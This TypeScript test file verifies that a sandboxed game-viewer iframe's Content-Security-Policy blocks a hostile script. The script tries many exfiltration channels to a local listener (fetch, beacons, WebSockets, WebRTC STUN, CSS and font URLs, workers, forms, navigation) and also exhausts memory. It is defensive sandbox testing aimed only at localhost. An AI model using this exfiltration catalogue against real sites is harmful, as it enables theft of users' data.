// Viewers that attack, in a real browser, under the policies that the site sends: a server on this machine plays the site,
// another one listens for whatever gets out. Skipped aloud without Chromium.

import { createHash } from 'node:crypto';
import { createSocket, type Socket } from 'node:dgram';
import { readFileSync } from 'node:fs';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { tron } from '../games/frames/samples';
import { browserPath, Built, launch } from './filePage';

/** A policy as the server's code has it. */
function policy(name: string): string {
  const code = readFileSync(join(import.meta.dirname, '../../../api/protect.go'), 'utf8');
  const parts = new RegExp(`const ${name} = ((?:"[^"]*"[ +\\n\\t]*)+)`).exec(code)?.[1];
  if (!parts) throw new Error(`api/protect.go has no ${name}`);
  return [...parts.matchAll(/"([^"]*)"/g)].map((part) => part[1]).join('');
}

/** Tries every way out to a listener that a page has. In the end it says what it could do here. */
const everyWayOut = (listener: string, udp: number) => `
const at = '${listener}';
const got = [];
const within = (way) => Promise.race([(async () => way())(), new Promise((done) => setTimeout(done, 1500))]).catch(() => {});
const element = (tag, fields) => within(() => new Promise((done) => {
  const it = Object.assign(document.createElement(tag), fields);
  it.onload = it.onerror = done;
  (tag === 'link' || tag === 'style' ? document.head : document.body).append(it);
}));
const allowed = (what, does) => { try { if (does()) got.push(what); } catch {} };
const style = (css) => within(() => new Promise((done) => { const it = document.createElement('style'); it.textContent = css; it.onload = it.onerror = done; document.head.append(it); }));
(async () => {
  await Promise.all([
    within(() => fetch(at + '/fetch', { mode: 'no-cors' })),
    within(() => fetch(at + '/keepalive', { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' })),
    within(() => new Promise((done) => { const x = new XMLHttpRequest(); x.onloadend = done; x.open('GET', at + '/xhr'); x.send(); })),
    within(() => new Promise((done) => { const s = new WebSocket(at.replace('http', 'ws') + '/socket'); s.onerror = s.onclose = done; })),
    within(() => new Promise((done) => { const s = new EventSource(at + '/events'); s.onerror = done; })),
    within(async () => { const t = new WebTransport(at.replace('http', 'https') + '/transport'); await t.ready; }),
    element('img', { src: at + '/img' }), element('img', { srcset: at + '/srcset 1x' }), element('video', { src: at + '/video', autoplay: true }), element('audio', { src: at + '/audio' }),
    element('script', { src: at + '/script.js' }), element('script', { src: at + '/module.js', type: 'module' }), element('iframe', { src: at + '/frame' }), element('object', { data: at + '/object' }), element('embed', { src: at + '/embed' }),
    ...['stylesheet', 'prefetch', 'preload', 'modulepreload', 'preconnect', 'dns-prefetch', 'icon', 'manifest', 'prerender'].map((rel) => element('link', { rel, href: at + '/' + rel, as: 'image' })),
    style('@import url("' + at + '/import");'),
    style('body { background: url("' + at + '/background"); cursor: url("' + at + '/cursor"), auto; border-image: url("' + at + '/border") 1; mask: url("' + at + '/mask"); }'),
    style('@font-face { font-family: out; src: url("' + at + '/font"); } body { font-family: out; }').then(() => within(() => document.fonts.load('16px out'))),
    within(() => import(at + '/import.js')),
    within(async () => { const url = URL.createObjectURL(new Blob(['fetch("' + at + '/worker", { mode: "no-cors" }).catch(() => 0).then(() => postMessage(1)); try { importScripts("' + at + '/scripts") } catch { }'])); const w = new Worker(url); await new Promise((done) => { w.onmessage = w.onerror = done; }); }),
    within(() => navigator.serviceWorker?.register(at + '/service.js') ?? Promise.resolve()),
    // A page inside this one is no way round what is forbidden here.
    element('iframe', { srcdoc: '<script>new Image().src = "' + at + '/inner"; try { const c = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${udp}" }] }); c.createDataChannel("x"); c.createOffer().then((o) => c.setLocalDescription(o)); } catch { }</' + 'script>' }),
    within(async () => {
      const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${udp}' }] });
      c.createDataChannel('x');
      await c.setLocalDescription(await c.createOffer());
      await new Promise((done) => { c.onicegatheringstatechange = () => { if (c.iceGatheringState === 'complete') done(); }; });
    }),
  ]);
  allowed('beacon', () => navigator.sendBeacon(at + '/beacon', 'x') && false);
  allowed('form', () => { const f = document.createElement('form'); f.action = at + '/form'; f.method = 'post'; f.target = '_blank'; document.body.append(f); f.submit(); });
  allowed('link', () => { const a = Object.assign(document.createElement('a'), { href: at + '/link', target: '_blank', ping: at + '/ping', textContent: 'x' }); document.body.append(a); a.click(); });
  allowed('window', () => window.open(at + '/window'));
  allowed('top', () => { top.location.href = at + '/top'; return false; });
  allowed('parent', () => parent.document);
  allowed('parent by name', () => parent.frames[0].document !== document && parent.frames[0].document);
  allowed('storage', () => { localStorage.setItem('x', '1'); return true; });
  allowed('session storage', () => { sessionStorage.setItem('x', '1'); return true; });
  allowed('cookies', () => { document.cookie = 'x=1'; return document.cookie; });
  allowed('origin', () => self.origin !== 'null');
  allowed('dialogue', () => confirm('x'));
  await within(() => new Promise((done) => { try { const r = indexedDB.open('x'); r.onsuccess = () => { got.push('database'); done(); }; r.onerror = done; } catch { done(); } }));
  await within(() => caches.open('x').then(() => got.push('cache')));
  await within(() => navigator.clipboard?.readText().then(() => got.push('clipboard')) ?? Promise.resolve());
  await within(() => new Promise((done) => navigator.geolocation?.getCurrentPosition(() => { got.push('place'); done(); }, done)));
  parent.postMessage({ agon: 1, type: 'error', text: 'could: ' + (got.join(', ') || 'nothing') }, '*');
})();`;

describe.skipIf(!browserPath)('viewers that attack', { timeout: 180_000 }, () => {
  let built: Built;
  let browser: Browser;
  let site: Server;
  let listener: Server;
  let udp: Socket;
  let heard: string[] = [];
  let host = '';
  /** The script of the page itself, which the policy names by its hash. */
  let program = '';
  /** What the frame gets; empty takes the policy away, to see that the attacks work. */
  let strangers = '';
  let guarded = true;
  let sitePolicy = '';

  const addressOf = (server: Server) => `http://127.0.0.1:${(server.address() as AddressInfo).port}`;

  beforeAll(async () => {
    built = new Built();
    const page = readFileSync(built.viewer('frames'), 'utf8');
    [, program] = /<script type="module">([\s\S]*?)<\/script>/.exec(page) as unknown as [string, string];
    browser = await launch({ args: ['--site-per-process'], ignoreDefaultArgs: ['--disable-features=IsolateOrigins,site-per-process'] });
    listener = createServer((request: IncomingMessage, response: ServerResponse) => {
      heard.push(request.url ?? '');
      response.setHeader('Access-Control-Allow-Origin', '*').end();
    });
    listener.on('upgrade', (request, socket) => {
      heard.push(request.url ?? '');
      socket.destroy();
    });
    // Connections alone tell something, too.
    listener.on('connection', () => heard.push('a connection'));
    udp = createSocket('udp4');
    udp.on('message', () => heard.push('a datagram'));
    await new Promise<void>((done) => udp.bind(0, '127.0.0.1', done));
    await new Promise<void>((done) => listener.listen(0, '127.0.0.1', done));
    site = createServer((request, response) => {
      const framed = request.headers['sec-fetch-dest'] === 'iframe';
      const sent = framed ? strangers : sitePolicy;
      if (sent) response.setHeader('Content-Security-Policy', sent);
      if (framed) response.setHeader('X-DNS-Prefetch-Control', 'off');
      response.setHeader('Content-Type', 'text/html; charset=utf-8').end((guarded ? page : page.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, '')).replace('</head>', () => host));
    });
    await new Promise<void>((done) => site.listen(0, '127.0.0.1', done));
  }, 180_000);

  afterAll(async () => {
    await browser?.close();
    built?.remove();
    site?.close();
    listener?.close();
    udp?.close();
  });

  /** The page of a match whose game brings the code, once the page has given it up, with what it says then. */
  async function suffer(code: string, safe = true): Promise<{ page: Page; problem: string }> {
    heard = [];
    guarded = safe;
    strangers = guarded ? policy('strangersPolicy').replace('{program}', `'sha256-${createHash('sha256').update(program).digest('base64')}'`) : '';
    // The page that is served here has its scripts in it, which the site's pages have not.
    sitePolicy = guarded ? policy('contentPolicy').replace("script-src 'self'", "script-src 'unsafe-inline'") : '';
    const files = { 'viewer.js': `data:text/javascript;base64,${Buffer.from(code).toString('base64')}` };
    const game = { id: 'tron', title: 'Tron', viewer: { kind: 'module', file: 'viewer.js' }, files };
    host = `<script type="application/agon-game">${JSON.stringify(game).replaceAll('<', '\\u003c')}</script>
      <script type="application/agon-replay" data-name="x">${Buffer.from(tron(12)).toString('base64')}</script></head>`;
    const page = await browser.newPage();
    await page.goto(addressOf(site));
    const problem = (await page.locator('.vw-problem').first().textContent({ timeout: 60_000 })) ?? '';
    return { page, problem };
  }

  const ready = `parent.postMessage({ agon: 1, type: 'ready' }, '*');`;
  const attack = () => `${ready} ${everyWayOut(addressOf(listener), (udp.address() as AddressInfo).port)}`;

  it('get nothing out by any way, and may do nothing', async () => {
    const { page, problem } = await suffer(attack());
    expect(heard).toEqual([]);
    expect(problem).toContain('could: nothing');
    expect(page.context().pages()).toHaveLength(1);
    // The match is shown all the same.
    await page.waitForSelector('canvas.vw-canvas');
    expect(await page.locator('iframe').count()).toBe(0);
    await page.close();
  });

  it('are known to be heard where nothing forbids it', async () => {
    const { page } = await suffer(attack(), false);
    expect(heard).toEqual(expect.arrayContaining(['/fetch', '/img', '/socket', '/import', '/background', '/font', '/stylesheet', '/preload', '/frame', '/script.js', '/worker', 'a datagram']));
    await page.close();
  });

  it.each([
    ['elsewhere', (at: string) => `location.href = '${at}/navigate?secret'`],
    ['elsewhere by a reload', (at: string) => `document.head.innerHTML = '<meta http-equiv="refresh" content="0;url=${at}/refresh">'`],
    ['elsewhere by a link', (at: string) => `const a = document.createElement('a'); a.href = '${at}/link'; document.body.append(a); a.click()`],
    ['to another page of the site', () => `location.href = '/contests/ants'`],
    ['to a page of its own making', () => `location.href = URL.createObjectURL(new Blob(['<h1>x</h1>'], { type: 'text/html' }))`],
  ])('navigate %s and are taken away', async (_where, move) => {
    const { page, problem } = await suffer(`${ready} setTimeout(() => { ${move(addressOf(listener))}; });`);
    expect(problem).toContain('it left its page');
    expect(await page.locator('iframe').count()).toBe(0);
    expect(heard).toEqual([]);
    expect(page.url()).toContain(addressOf(site));
    await page.close();
  });

  it('take all memory and are taken away', async () => {
    const { page, problem } = await suffer(`${ready} addEventListener('message', () => { const all = []; for (;;) all.push(new Array(1e6).fill({})); });`);
    expect(problem).toMatch(/it did not answer for 5 seconds|it failed/);
    await page.waitForSelector('canvas.vw-canvas');
    await page.close();
  });
});
